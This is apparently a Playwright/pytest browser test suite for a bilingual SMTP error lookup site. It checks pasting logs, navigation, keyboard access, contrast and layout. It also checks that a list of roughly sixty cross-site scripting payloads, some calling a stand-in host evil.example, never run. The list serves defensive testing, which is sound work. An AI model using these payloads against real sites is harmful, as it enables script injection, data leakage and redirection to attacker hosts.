"""A real browser on a real server: paste to answer in both languages, with and without JavaScript, by keyboard, hostile input."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Iterator
from itertools import pairwise

import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install 'smtp-kb[browser]'")

from browsing import Watched, browser, visit
from playwright.sync_api import Page, expect

__all__ = ["browser", "visit"]

pytestmark = pytest.mark.browser

TEXT = "error response to AUTH command: unencrypted connection"
ENTRY = "auth-unencrypted-connection"
LANGS = ("zh", "en")
LANG_OF_HTML = {"zh": "zh-Hans", "en": "en"}
SIZES = (320, 768, 1440)
LOG = f"""Jul 20 16:51:26 mail postfix/smtpd[1]: connect from unknown[192.0.2.10]
mailpit-1  | time="2026/07/20 16:51:26" level=error msg="[relay] error: {TEXT}"
{"x" * 400}
{"中" * 200}
"""
PATHS = {
    "home": "/{lang}/",
    "answer": f"/{{lang}}/lookup?q={TEXT.replace(' ', '+')}",
    "no answer": f"/{{lang}}/lookup?q={'long' * 100}",
    "entry": f"/{{lang}}/errors/{ENTRY}",
    "errors": "/{lang}/errors/",
    "articles": "/{lang}/articles/",
    "codes": "/{lang}/codes/",
    "code": "/{lang}/codes/5.7.1",
    "search": "/{lang}/search?q=smtpd_tls_auth_only",
    "problem": "/{lang}/nowhere",
}
XSS = [
    *(f"<script>{run}</script>" for run in ("alert(1)", "window.pwned=1", "fetch('https://evil.example')")),
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script\n>window.pwned=1</script\n>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "</pre><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    "</mark></pre><img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=window.pwned=1>",
    "<IMG SRC=x ONERROR=window.pwned=1>",
    '<img src="x` `<script>window.pwned=1</script>"` `>',
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<math href=javascript:window.pwned=1>x</math>",
    "<body onload=window.pwned=1>",
    "<body onpageshow=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<video src=x onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1></audio>",
    "<video><source onerror=window.pwned=1></video>",
    "<marquee onstart=window.pwned=1>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<embed src=javascript:window.pwned=1>",
    "<object data=javascript:window.pwned=1></object>",
    "<object data=https://evil.example/></object>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<a href=javascript:window.pwned=1 autofocus>x</a>",
    "<p style='background:url(https://evil.example/x)'>",
    "<div onmouseover=window.pwned=1 style='position:fixed;inset:0'>x</div>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<portal src=https://evil.example/>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${window.pwned=1}`${window.pwned=1}`",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\ufdd1<script>window.pwned=1</script>\ufdd2",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<\x00script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
    "[x](javascript:window.pwned=1) ![x](https://evil.example/x.png) <https://evil.example/>",
]


@pytest.mark.parametrize("javascript", [True, False], ids=["with JavaScript", "without JavaScript"])
@pytest.mark.parametrize("lang", LANGS)
def test_from_paste_to_answer(visit: Callable[..., Watched], lang: str, javascript: bool) -> None:
    page = visit(java_script_enabled=javascript).open(f"/{lang}/")
    page.get_by_role("textbox").and_(page.locator("textarea")).fill(LOG)
    page.locator(".paste button").click()
    expect(page).to_have_url(re.compile(f"/{lang}/lookup$"))
    expect(page.locator("html")).to_have_attribute("lang", LANG_OF_HTML[lang])
    expect(page.locator(f"a[href='/{lang}/errors/{ENTRY}']")).to_be_visible()
    expect(page.locator("#fix")).to_be_visible()
    assert "unencrypted connection" in page.locator("pre.pasted mark").inner_text()
    assert page.locator("pre.pasted").inner_text().strip().startswith("Jul 20 16:51:26 mail postfix/smtpd[1]")


@pytest.mark.parametrize("javascript", [True, False], ids=["with JavaScript", "without JavaScript"])
def test_examples_search_and_language_switch_work(visit: Callable[..., Watched], javascript: bool) -> None:
    watched = visit(java_script_enabled=javascript, locale="zh-CN")
    page = watched.open("/")
    expect(page).to_have_url(re.compile("/zh/$"))
    page.locator(".try a").first.click()
    expect(page.locator("article.answer h1")).to_be_visible()
    page.locator("header a.language").click()
    expect(page).to_have_url(re.compile("/en/lookup"))
    expect(page.locator("article.answer h1")).to_be_visible()
    page.get_by_role("combobox").fill("smtpd_tls_auth_only")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile("/en/search"))
    page.locator(".cards a").first.click()
    expect(page.locator("h1")).to_be_visible()
    page.locator("header a.language").click()
    expect(page).to_have_url(re.compile(f"{watched.address}/zh/"))
    expect(page.locator("html")).to_have_attribute("lang", "zh-Hans")


OVERLAP = """() => [...document.querySelectorAll("pre button")].some((button) => {
  const [range, own] = [document.createRange(), button.getBoundingClientRect()];
  range.selectNodeContents(button.parentElement.querySelector("code"));
  return [...range.getClientRects()].some((text) => text.left < own.right && text.right > own.left
    && text.top < own.bottom && text.bottom > own.top);
})"""


@pytest.mark.parametrize("lang", LANGS)
def test_copy_button(visit: Callable[..., Watched], lang: str) -> None:
    watched = visit(permissions=["clipboard-read", "clipboard-write"], viewport={"width": 320, "height": 800})
    page = watched.open(f"/{lang}/errors/{ENTRY}")
    block = page.locator("pre.copy").first
    button = block.get_by_role("button")
    before = button.inner_text()
    button.click()
    expect(button).not_to_have_text(before)
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == block.locator("code").text_content()
    assert not page.evaluate(OVERLAP)
    assert before not in copied
    expect(button).to_have_text(before)


def test_there_is_no_copy_button_without_javascript(visit: Callable[..., Watched]) -> None:
    page = visit(java_script_enabled=False).open(f"/en/errors/{ENTRY}")
    expect(page.locator("pre.copy").first).to_be_visible()
    expect(page.locator("pre.copy button")).to_have_count(0)


@pytest.mark.parametrize("lang", LANGS)
def test_keyboard_only(visit: Callable[..., Watched], lang: str) -> None:
    page = visit().open(f"/{lang}/")
    seen = []
    for _ in range(20):
        page.keyboard.press("Tab")
        seen.append(page.evaluate("document.activeElement.className || document.activeElement.tagName"))
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
        if page.evaluate("document.activeElement.tagName") == "TEXTAREA":
            break
    assert seen[0] == "skip"
    assert seen[-1] == "TEXTAREA"
    page.keyboard.insert_text(TEXT)
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("article.answer h1")).to_be_visible()


def test_skip_link(visit: Callable[..., Watched]) -> None:
    page = visit().open("/en/")
    page.keyboard.press("Tab")
    expect(page.locator("a.skip")).to_be_in_viewport()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    assert page.evaluate("document.querySelector('main').contains(document.activeElement)")


@pytest.mark.parametrize("keys", ["Control+Enter", "Meta+Enter"])
def test_control_enter_submits(visit: Callable[..., Watched], keys: str) -> None:
    page = visit().open("/en/")
    page.locator("textarea").fill(TEXT)
    page.locator("textarea").press("Enter")
    expect(page).to_have_url(re.compile("/en/$"))
    page.locator("textarea").press(keys)
    expect(page.locator("article.answer h1")).to_be_visible()


def test_an_empty_box_is_not_sent(visit: Callable[..., Watched]) -> None:
    page = visit().open("/en/")
    page.locator(".paste button").click()
    expect(page).to_have_url(re.compile("/en/$"))


def test_nothing_is_kept_in_the_browser(visit: Callable[..., Watched]) -> None:
    page = visit().open("/en/")
    page.locator("textarea").fill(TEXT)
    page.locator(".paste button").click()
    expect(page.locator("article.answer h1")).to_be_visible()
    assert page.context.cookies() == []
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert "unencrypted" not in page.url


CONTRAST = """() => {
  const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
  const rgb = (color) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const luminance = (c) => { const [r, g, b] = c.slice(0, 3).map((v) => { v /= 255;
    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const under = (node) => { for (; node; node = node.parentElement) {
    const c = rgb(getComputedStyle(node).backgroundColor); if (c[3] === 255) return c; } return [255, 255, 255, 255]; };
  const low = [];
  for (const node of document.querySelectorAll("body *")) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
    if (!own || !node.getClientRects().length) continue;
    const [a, b] = [luminance(rgb(getComputedStyle(node).color)), luminance(under(node))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) low.push(`${node.tagName}.${node.className} ${ratio.toFixed(2)} ${node.textContent.slice(0, 40)}`);
  }
  return low;
}"""


UNNAMED = """() => [...document.querySelectorAll("input:not([type=hidden]), textarea, button, a, select")].filter((node) =>
  !(node.textContent.trim() || node.ariaLabel || node.labels?.length)).map((node) => node.outerHTML)"""


@pytest.mark.parametrize("lang", LANGS)
def test_every_page_can_be_read_by_everybody(visit: Callable[..., Watched], lang: str) -> None:
    """By assistive technology, in light and in dark, on any width; a page is opened once for all of it."""
    watched = visit()
    faults: list[str] = []
    for path in PATHS.values():
        page = watched.open(path.format(lang=lang))
        faults += [f"{path}: {fault}" for fault in (*hard_to_hear(page), *hard_to_see(page), *too_wide(page))]
    articles = watched.open(f"/{lang}/articles/").locator(".cards a")
    for path in [link.get_attribute("href") or "" for link in articles.all()]:
        faults += [f"{path}: {fault}" for fault in too_wide(watched.open(path))]
    watched.open(f"/{lang}/").locator("textarea").fill(LOG)
    watched.page.locator(".paste button").click()
    expect(watched.page.locator("pre.pasted")).to_be_visible()
    faults += [f"answer to a log: {fault}" for fault in too_wide(watched.page)]
    assert faults == []


def hard_to_hear(page: Page) -> Iterator[str]:
    """What assistive technology misses."""
    for tag in ("h1", "main"):
        if (count := page.locator(tag).count()) != 1:
            yield f"{count} {tag}"
    yield from (f"without a name: {html}" for html in page.evaluate(UNNAMED))
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((node) => node.id)")
    yield from (f"id twice: {id_}" for id_, count in Counter(ids).items() if count > 1)
    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map((node) => Number(node.tagName[1]))")
    yield from (f"from a heading {before} to {after}" for before, after in pairwise(levels) if after - before > 1)


def hard_to_see(page: Page) -> Iterator[str]:
    """Contrast of less than 4.5 (WCAG 1.4.3), or dark that is light."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        yield from (f"{scheme}: {low}" for low in page.evaluate(CONTRAST))
        ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
        if (sum(map(int, re.findall(r"\d+", ground)[:3])) < 384) is not (scheme == "dark"):
            yield f"{scheme}: on {ground}"


def too_wide(page: Page) -> Iterator[str]:
    """Where a page is wider than its window, in light and in dark."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        for width in SIZES:
            page.set_viewport_size({"width": width, "height": 800})
            if page.evaluate("document.documentElement.scrollWidth") > width:
                yield f"wider than {width}, {scheme}"


def test_the_payloads_are_many() -> None:
    assert len(XSS) == len(set(XSS)) >= 58


def _is_untouched(page: Page) -> None:
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.scripts.length") == 1
    assert (
        page.evaluate("document.querySelectorAll('main :is(img, svg, iframe, style, math, object, embed)').length") == 0
    )


def test_payloads_never_run(visit: Callable[..., Watched]) -> None:
    """Through the paste, its address, the search and a page that is not there; dialogs, errors and requests are watched."""
    watched = visit()
    for start in range(0, len(XSS), 10):  # alone they are in the addresses below
        some = XSS[start : start + 10]
        page = watched.open("/en/")
        page.locator("textarea").fill("\n".join(f"{payload}\n{TEXT} {payload}" for payload in some))
        page.locator(".paste button").click()
        expect(page.locator("pre.pasted")).to_be_visible()
        _is_untouched(page)
        shown = page.locator("pre.pasted").text_content().replace("\x00", "").replace("\ufffd", "")
        assert [one for one in some if one.replace("\x00", "").strip("\ufdd1\ufdd2")[:20] not in shown] == []
    quoted = watched.page.evaluate("(texts) => texts.map(encodeURIComponent)", XSS)
    for text in quoted:
        for path in (f"/en/lookup?q={text}", f"/zh/search?q={text}"):
            _is_untouched(watched.open(path))
    for text in quoted[::6]:
        _is_untouched(watched.open(f"/zh/codes/{text}"))
